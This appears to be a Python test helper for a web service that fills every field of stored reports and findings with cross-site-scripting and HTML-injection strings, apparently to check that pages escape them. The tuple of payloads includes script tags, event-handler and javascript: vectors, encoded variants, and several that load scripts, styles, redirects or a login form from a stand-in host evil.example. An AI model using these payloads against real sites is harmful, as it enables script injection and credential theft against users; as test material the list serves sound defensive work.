"""Text that would run in a browser if a page took it for markup, and reports that are full of it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import msgspec

from parsers.model.files import json_to_value, value_to_json
from parsers.model.outcome import Findings
from parsers.model.report import Report
from tasks import layout

if TYPE_CHECKING:
    from tests.workers.web.conftest import Office

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "' onfocus='alert(1)' autofocus='",
    '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
    "` onmouseover=alert(1) `",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>点击</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><button>登录</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div data-hx-get=//evil.example/ data-hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=alert(1) data-hx-on:click=alert(1)>x</div>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "${alert(1)}",
)


def report_full_of(office: Office, text: str, key: str = "") -> str:
    """The job of a finished report into whose every text the given one was put."""
    job = office.processed(key) if key else office.processed()
    entry = office.ledger.entry(job)
    assert entry is not None
    _rewrite(office, layout.submission(job, entry.judge_digest or "", "report.json"), Report, text)
    _rewrite(office, layout.submission(job, entry.judge_digest or "", "findings.json"), Findings, text)
    return job


def _rewrite(office: Office, key: str, kind: type[Report | Findings], text: str) -> None:
    value = json_to_value(office.store.get("results", key) or b"", kind)
    worse = report_with(value, text) if isinstance(value, Report) else findings_with(value, text)
    office.store.put("results", key, value_to_json(worse), "application/json")


def report_with(report: Report, text: str) -> Report:
    """The report with this text in every cell, heading, section, and name."""
    tables = {
        table: {
            row: {
                column: msgspec.structs.replace(figure, value=None, status="non_numeric", raw=text)
                for column, figure in cells.items()
            }
            for row, cells in rows.items()
        }
        for table, rows in report.tables.items()
    }
    sections = {n: msgspec.structs.replace(s, heading=text, text=text) for n, s in report.sections.items()}
    agency = msgspec.structs.replace(report.agency, name=text)
    return msgspec.structs.replace(
        report, title=text, tables=tables, sections=sections, period=text, agency=agency, signed_on=text
    )


def findings_with(findings: Findings, text: str) -> Findings:
    """The findings with this text in every sentence and place."""
    return msgspec.structs.replace(
        findings,
        findings=tuple(
            msgspec.structs.replace(
                f,
                message=text,
                basis=text,
                suggestion=text,
                filed=text,
                expected=text,
                places=tuple(msgspec.structs.replace(e, label=text, raw=text) for e in f.places),
            )
            for f in findings.findings
        ),
    )
